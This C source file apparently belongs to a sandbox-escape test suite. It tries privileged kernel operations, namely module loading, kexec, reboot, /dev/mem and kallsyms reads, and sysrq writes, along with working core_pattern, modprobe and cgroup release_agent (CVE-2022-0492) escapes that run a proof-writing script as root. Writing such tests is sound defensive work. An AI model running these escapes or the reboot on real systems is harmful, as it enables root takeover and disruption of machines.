/* What would harm the whole machine: tried in a virtual one only. */
#define _GNU_SOURCE
#include "escape.h"
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PATIENCE = 50, INTERVAL_US = 100000, MEM_MAJOR = 1, MEM_MINOR = 1, RAM_DISK_MAJOR = 1 };

static long write_text(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (file < 0)
        return -1;
    long written = write(file, text, strlen(text));
    int error = errno;
    close(file);
    errno = error;
    return written;
}

static long set_clock(void) {
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    now.tv_sec += 60;
    return clock_settime(CLOCK_REALTIME, &now);
}
static long slow_clock_down(void) {
    struct timex change = {.modes = ADJ_FREQUENCY, .freq = -65536 /* one in a million */};
    return adjtimex(&change);
}
static long load_module(void) {
    int module = open(given("MODULE"), O_RDONLY | O_CLOEXEC);
    if (module < 0 || syscall(SYS_finit_module, module, "", 0) < 0)
        return -1;
    return syscall(SYS_delete_module, "dummy", O_NONBLOCK);
}
/* None, in place of one that would be loaded for the next start: it takes the same right. */
static long replace_kernel(void) {
    return syscall(SYS_kexec_load, 0, 0, NULL, 0);
}
static long restart_machine(void) {
    sync();
    return reboot(RB_AUTOBOOT);
}
static long swap_to_device(void) {
    const char *node = scratch("node");
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, makedev(RAM_DISK_MAJOR, 0)) < 0 || swapon(node, 0) < 0)
        return -1;
    return swapoff(node);
}
static long account_processes(void) {
    return acct(below("MARKS", "log")) < 0 ? -1 : acct(NULL);
}
static long read_physical_memory(void) {
    const char *node = scratch("node");
    unlink(node);
    if (mknod(node, S_IFCHR | 0600, makedev(MEM_MAJOR, MEM_MINOR)) < 0)
        return -1;
    return can_open(node, O_RDONLY);
}
#ifdef __x86_64__
static long use_ports(void) {
    enum { POST_CODES = 0x80 };
    return ioperm(POST_CODES, 1, 1);
}
#endif
/* Where the kernel lies, which its address space randomisation hides; per-CPU symbols begin at 0.
 */
static long read_kernel_addresses(void) {
    unsigned long address = 0;
    FILE *symbols = fopen("/proc/kallsyms", "re");
    while (symbols && address == 0 && fscanf(symbols, "%lx %*[^\n]", &address) == 1)
        continue;
    return address ? 0 : failed(EPERM);
}
/* CVE-2019-8912 */
static long use_kernel_crypto(void) {
    return socket(AF_ALG, SOCK_SEQPACKET, 0);
}
/* A key that only sets the level of the console's messages, which can be read back. */
static long press_sysrq(void) {
    static const char levels[] = "56";
    char level[2] = "";
    int printk = open("/proc/sys/kernel/printk", O_RDONLY | O_CLOEXEC);
    pread(printk, level, 1, 0);
    char wanted[] = {levels[level[0] == levels[0]], '\0'};
    if (write_text("/proc/sysrq-trigger", wanted) < 0)
        return -1;
    return pread(printk, level, 1, 0) == 1 && level[0] == wanted[0] ? 0 : failed(EPERM);
}

/*
 * The classics: the kernel starts a program of the attacker's as root of the whole machine. What it
 * leaves proves it; everything outside may write where that is.
 */
static char payload[64], proof[128];

static bool make_payload(const char *name) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    const char *marks = given("MARKS");
    snprintf(payload, sizeof payload, "%s/%s-%ld", marks, name, now.tv_nsec);
    snprintf(proof, sizeof proof, "%s.taken", payload);
    int file = open(payload, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
    bool made =
        file >= 0 && dprintf(file, "#!/bin/sh\n>%s\n", proof) > 0 && fchmod(file, 0755) == 0;
    close(file);
    return made;
}
static long await_proof(void) {
    for (int round = 0; round < PATIENCE && access(proof, F_OK) < 0; round++)
        usleep(INTERVAL_US);
    return access(proof, F_OK);
}
static long take_core_dumps(void) {
    char pattern[sizeof payload + 1];
    if (!make_payload("core"))
        return -1;
    snprintf(pattern, sizeof pattern, "|%s", payload);
    if (write_text("/proc/sys/kernel/core_pattern", pattern) < 0)
        return -1;
    if (fork() == 0) {
        setrlimit(RLIMIT_CORE, &(struct rlimit){0, 0});
        abort();
    }
    long taken = await_proof();
    write_text("/proc/sys/kernel/core_pattern", "core");
    return taken;
}
static long take_module_loading(void) {
    enum { FAMILY_OF_A_MODULE = AF_NFC };
    if (!make_payload("modprobe") || write_text("/proc/sys/kernel/modprobe", payload) < 0)
        return -1;
    close(socket(FAMILY_OF_A_MODULE, SOCK_RAW, 0));
    long taken = await_proof();
    write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
    return taken;
}
/* CVE-2022-0492: a hierarchy of our own, whose root has the file in any case. */
static long release_cgroup(const char *root) {
    char child[64], path[128];
    snprintf(child, sizeof child, "%s/child", root);
    snprintf(path, sizeof path, "%s/release_agent", root);
    mkdir(child, 0755);
    if (write_text(path, payload) < 0)
        return -1;
    snprintf(path, sizeof path, "%s/notify_on_release", child);
    write_text(path, "1");
    snprintf(path, sizeof path, "%s/cgroup.procs", child);
    pid_t process = fork();
    if (process == 0)
        _exit(write_text(path, "0") < 0);
    waitpid(process, NULL, 0);
    long taken = await_proof();
    rmdir(child);
    return taken;
}
static long take_release_agent(void) {
    static const char root[] = "/var/tmp";
    if (!make_payload("agent") || mount("none", root, "cgroup", 0, "none,name=escape") < 0)
        return -1;
    long taken = release_cgroup(root);
    int error = errno;
    umount2(root, MNT_DETACH);
    errno = error;
    return taken;
}

const struct attempt on_machine[] = {
    ATTEMPT(set_clock),
    ATTEMPT(slow_clock_down),
    ATTEMPT(load_module),
    ATTEMPT(replace_kernel),
    ATTEMPT(restart_machine),
    ATTEMPT(swap_to_device),
    ATTEMPT(account_processes),
    ATTEMPT(read_physical_memory),
#ifdef __x86_64__
    ATTEMPT(use_ports),
#endif
    ATTEMPT(read_kernel_addresses),
    ATTEMPT(use_kernel_crypto),
    ATTEMPT(press_sysrq),
    ATTEMPT(take_core_dumps),
    ATTEMPT(take_module_loading),
    ATTEMPT(take_release_agent),
    END_OF_ATTEMPTS,
};
